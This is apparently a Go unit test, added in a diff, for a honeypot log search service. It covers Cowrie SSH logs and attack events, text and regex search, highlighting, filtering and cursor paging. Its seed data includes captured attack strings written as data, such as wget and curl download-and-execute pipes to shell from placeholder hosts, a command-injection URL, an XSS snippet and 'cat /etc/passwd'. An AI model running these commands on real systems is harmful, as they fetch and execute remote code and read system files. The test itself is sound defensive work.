@@ -0,0 +1,159 @@
+package services
+
+import (
+	"andorralee/internal/config"
+	"andorralee/internal/repositories"
+	"errors"
+	"fmt"
+	"testing"
+	"time"
+)
+
+// seedSearchLogs 写入检索测试使用的Cowrie日志和攻击事件
+func seedSearchLogs(t *testing.T, base time.Time) {
+	t.Helper()
+	commands := []string{
+		"wget http://1.2.3.4/x.sh | sh",
+		"cat /etc/passwd",
+		"WGET http://5.6.7.8/bot -O- | sh",
+		"uname -a",
+		"curl http://evil.example/a.sh | bash",
+	}
+	var logs []repositories.CowrieLog
+	for i, command := range commands {
+		ip := "10.0.0.1"
+		if i%2 == 1 {
+			ip = "10.0.0.2"
+		}
+		logs = append(logs, repositories.CowrieLog{
+			AuthID:    fmt.Sprintf("search-%d", i),
+			SessionID: fmt.Sprintf("s%d", i),
+			SourceIP:  ip,
+			Protocol:  "ssh",
+			EventTime: base.Add(time.Duration(i) * time.Minute),
+			Command:   command,
+			RawLog:    fmt.Sprintf(`{"eventid":"cowrie.command.input","input":%q}`, command),
+		})
+	}
+	if _, err := repositories.NewCowrieLogRepo(config.DB).CreateBatch(logs); err != nil {
+		t.Fatalf("写入日志失败: %v", err)
+	}
+
+	events := repositories.NewAttackEventRepo(config.DB)
+	for i, payload := range []string{"GET /shell?cd+/tmp;wget+http://9.9.9.9/m -O m", "<script>alert(1)</script> wget"} {
+		if err := events.Create(&repositories.AttackEvent{
+			SourceIP:   "10.0.0.3",
+			DestIP:     "172.17.0.2",
+			Protocol:   "http",
+			AttackType: "command_injection",
+			Payload:    payload,
+			Timestamp:  base.Add(time.Duration(10+i) * time.Minute),
+			Severity:   "high",
+		}); err != nil {
+			t.Fatalf("写入攻击事件失败: %v", err)
+		}
+	}
+}
+
+// TestSearchTextAndRegex 测试全文检索、正则检索、高亮和时间/IP过滤
+func TestSearchTextAndRegex(t *testing.T) {
+	useSQLiteDatabase(t)
+	base := time.Date(2025, 6, 1, 12, 0, 0, 0, time.Local)
+	seedSearchLogs(t, base)
+
+	service, err := NewSearchService()
+	if err != nil {
+		t.Fatalf("创建检索服务失败: %v", err)
+	}
+
+	// 全文检索不区分大小写，结果按时间倒序合并两个数据源
+	result, err := service.Search(SearchQuery{Query: "wget", Fields: []string{"command", "payload"}})
+	if err != nil {
+		t.Fatalf("检索失败: %v", err)
+	}
+	if len(result.Hits) != 4 || result.NextCursor != "" {
+		t.Fatalf("应命中4条且没有下一页: %+v", result)
+	}
+	if result.Hits[0].Source != "attack_event" || result.Hits[2].Source != "cowrie_log" || result.Hits[2].SessionID != "s2" {
+		t.Fatalf("命中顺序错误: %+v", result.Hits)
+	}
+	escaped := result.Hits[0].Fragments[0]
+	if escaped.Highlighted != "&lt;script&gt;alert(1)&lt;/script&gt; <mark>wget</mark>" || escaped.Highlights[0] != [2]int{26, 30} {
+		t.Fatalf("高亮错误: %+v", escaped)
+	}
+	if fragment := result.Hits[2].Fragments[0]; fragment.Field != "command" || fragment.Highlighted != "<mark>WGET</mark> http://5.6.7.8/bot -O- | sh" {
+		t.Fatalf("高亮错误: %+v", fragment)
+	}
+
+	// 多个词都必须出现，短语作为整体匹配
+	result, err = service.Search(SearchQuery{Query: `"| sh" wget`, Fields: []string{"command"}})
+	if err != nil || len(result.Hits) != 2 {
+		t.Fatalf("多词检索错误: %+v err=%v", result, err)
+	}
+
+	// 正则检索 wget ... | sh 形式的下载执行
+	result, err = service.Search(SearchQuery{Query: `(?i)wget\s+\S+.*\|\s*(ba)?sh`, Mode: SearchModeRegex})
+	if err != nil || len(result.Hits) != 2 {
+		t.Fatalf("正则检索错误: %+v err=%v", result, err)
+	}
+	for _, hit := range result.Hits {
+		if len(hit.Fragments) != 2 || hit.Fragments[0].Field != "command" || hit.Fragments[1].Field != "raw_log" {
+			t.Fatalf("命令和原始日志都应命中: %+v", hit)
+		}
+	}
+
+	// 按攻击者IP和时间过滤
+	start := base.Add(time.Minute)
+	end := base.Add(5 * time.Minute)
+	result, err = service.Search(SearchQuery{Query: `https?://`, Mode: SearchModeRegex, Fields: []string{"command"}, SourceIPs: []string{"10.0.0.1"}, StartTime: &start, EndTime: &end})
+	if err != nil || len(result.Hits) != 2 || result.Hits[0].ID != 5 || result.Hits[1].ID != 3 {
+		t.Fatalf("过滤检索错误: %+v err=%v", result, err)
+	}
+
+	for _, query := range []SearchQuery{
+		{Query: ""},
+		{Query: "(", Mode: SearchModeRegex},
+		{Query: "x", Mode: "fuzzy"},
+		{Query: "x", Fields: []string{"password"}},
+		{Query: "x", Cursor: "!!"},
+	} {
+		if _, err := service.Search(query); !errors.Is(err, ErrInvalidSearchQuery) {
+			t.Errorf("检索条件 %+v 应返回ErrInvalidSearchQuery: %v", query, err)
+		}
+	}
+}
+
+// TestSearchCursor 测试按游标翻页不重复也不遗漏
+func TestSearchCursor(t *testing.T) {
+	useSQLiteDatabase(t)
+	base := time.Date(2025, 6, 1, 12, 0, 0, 0, time.Local)
+	seedSearchLogs(t, base)
+
+	service, err := NewSearchService()
+	if err != nil {
+		t.Fatalf("创建检索服务失败: %v", err)
+	}
+
+	seen := map[string]bool{}
+	cursor := ""
+	for page := 0; page < 10; page++ {
+		result, err := service.Search(SearchQuery{Query: "/", Limit: 2, Cursor: cursor})
+		if err != nil {
+			t.Fatalf("检索失败: %v", err)
+		}
+		for _, hit := range result.Hits {
+			key := fmt.Sprintf("%s/%d", hit.Source, hit.ID)
+			if seen[key] {
+				t.Fatalf("重复的命中 %s", key)
+			}
+			seen[key] = true
+		}
+		if cursor = result.NextCursor; cursor == "" {
+			break
+		}
+	}
+	// 除uname -a外的日志和两条攻击事件都包含/
+	if len(seen) != 6 || seen["cowrie_log/4"] {
+		t.Fatalf("翻页后应得到6条命中: %v", seen)
+	}
+}